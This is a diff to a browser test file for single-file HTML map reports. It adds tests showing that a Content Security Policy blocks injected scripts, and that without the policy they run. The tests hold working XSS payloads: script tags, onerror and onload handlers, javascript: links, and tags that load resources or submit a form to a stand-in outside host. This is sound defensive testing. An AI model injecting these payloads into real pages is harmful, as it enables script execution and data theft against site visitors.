@@ -1,23 +1,32 @@
 """The map of one file, opened from disk: drawn without a request, and no name in it can run."""
 
-from dataclasses import replace
-
-import pandas as pd
 import pytest
 
-from geo import facts, store
-from geo.io.records import read_types
 from geo.report.onefile import one_file
-from geo.sharing import READER, share
 from tests.browser.conftest import Visit
-from tests.packs import CERCLE, asked, pack_of, shipped
+from tests.packs import CERCLE, asked, named_like_markup, pack_of
 from tests.printed import DAY
+from tests.strangers import HOST, MARKUP
 
 HOSTILE = (
     "<img src=x onerror=\"window.hacked='img'\">",
     "</script><script>window.hacked='script'</script>",
     "'\"><svg onload=\"window.hacked='svg'\">{{7*7}}",
+    *MARKUP.values(),
 )
+# What would stand in the page if some text were not escaped.
+INJECTED = f"""
+<script>window.hacked='script'</script><script src="http://{HOST}/a.js"></script>
+<script type="module">window.hacked='module'</script><img src=x onerror="window.hacked='image'">
+<img src="http://{HOST}/a.png"><svg onload="window.hacked='svg'"></svg><body onload="window.hacked='body'">
+<iframe src="http://{HOST}/a"></iframe><iframe srcdoc="<script>parent.hacked='frame'</script>"></iframe>
+<link rel="stylesheet" href="http://{HOST}/a.css"><style>@import 'http://{HOST}/b.css';</style>
+<style>body {{ background: url(http://{HOST}/c.png) }}</style><object data="http://{HOST}/o"></object>
+<video autoplay src="http://{HOST}/v"></video><base href="http://{HOST}/"><embed src="http://{HOST}/e">
+<link rel="prefetch" href="http://{HOST}/p"><p style="background:url(http://{HOST}/s)">x</p>
+<a id="bad" href="javascript:window.hacked='link'">x</a>
+<form id="sent" action="http://{HOST}/f"><button id="send">x</button></form>
+"""
 
 
 def opened(visit: Visit, path) -> None:
@@ -74,19 +83,7 @@ def test_it_fits_a_phone(phone, tmp_path):
 
 def hostile() -> bytes:
     """The page of records whose organisations, donors and sources are named like scripts."""
-    prepared, tools = shipped()
-    held = store.load(prepared.frame.boundaries)
-    committee = held.records[held.records["activity_type"] == "peace_committee"].iloc[:1]
-    place = {"place_set": "ML0702", "adm1_pcode": "ML07", "adm2_pcode": "ML0702", "adm3_pcode": ""}
-    placed = committee.assign(**place, precision="cercle", outcome="placed", quantity=1.0)
-    rows = [placed.assign(implementing_org=name, donor=name) for name in HOSTILE]
-    shared = share(pd.concat([held.records, *rows], ignore_index=True), READER, types=read_types())
-    sources = {
-        name: replace(source, title=f"{HOSTILE[1]} {source.title}", attribution=HOSTILE[0])
-        for name, source in held.sources.items()
-    }
-    frame, people = prepared.frame, prepared.population
-    again = facts.prepare(shared, frame, types=read_types(), sources=sources, people=people)
+    again, tools = named_like_markup(HOSTILE)
     carried = {"parts": tools.parts, "shapes": tools.shapes, "basemap": tools.basemap}
     return one_file(asked(again, CERCLE), tools.drawing, **carried, day=DAY)
 
@@ -103,3 +100,34 @@ def test_no_name_runs(visit, tmp_path):
     assert visit.page.evaluate("window.hacked") is None
     assert "onerror" in visit.page.locator("body").inner_text()
     assert (visit.console, visit.faults) == ([], [])
+
+
+@pytest.mark.parametrize("place", ["<main>", "<footer>", "</body>"])
+def test_a_script_in_the_page_would_not_run_either(visit, tmp_path, place):
+    # As if escaping had failed: the policy of the page alone stands between the text and the reader.
+    content = pack_of(CERCLE).files["html"].decode()
+    assert content.count(place) == 1
+    path = tmp_path / "percee.html"
+    path.write_text(content.replace(place, f"{INJECTED}{place}"), encoding="utf-8")
+    opened(visit, path)
+    for name in ("#bad", "#send"):
+        visit.page.evaluate(f"document.querySelector('{name}').click()")
+    visit.page.wait_for_timeout(500)
+    assert visit.page.evaluate("window.hacked") is None
+    assert visit.page.url == path.as_uri()
+    # What the policy holds back is never sent; the browser only says that it was held back.
+    held_back = [text for text, _url in visit.console if "Content Security Policy" in text]
+    assert len(held_back) >= 8
+    assert visit.sent == []
+
+
+def test_without_the_policy_the_same_scripts_run(visit, tmp_path):
+    # The test above would hold for a page that nothing was put into.
+    content = pack_of(CERCLE).files["html"].decode()
+    start = content.index("<meta http-equiv='Content-Security-Policy'")
+    bare = content[:start] + content[content.index(">", start) + 1 :]
+    path = tmp_path / "nue.html"
+    path.write_text(bare.replace("<main>", f"{INJECTED}<main>"), encoding="utf-8")
+    visit.page.goto(path.as_uri())
+    visit.page.wait_for_function("window.hacked", timeout=30_000)
+    assert visit.sent
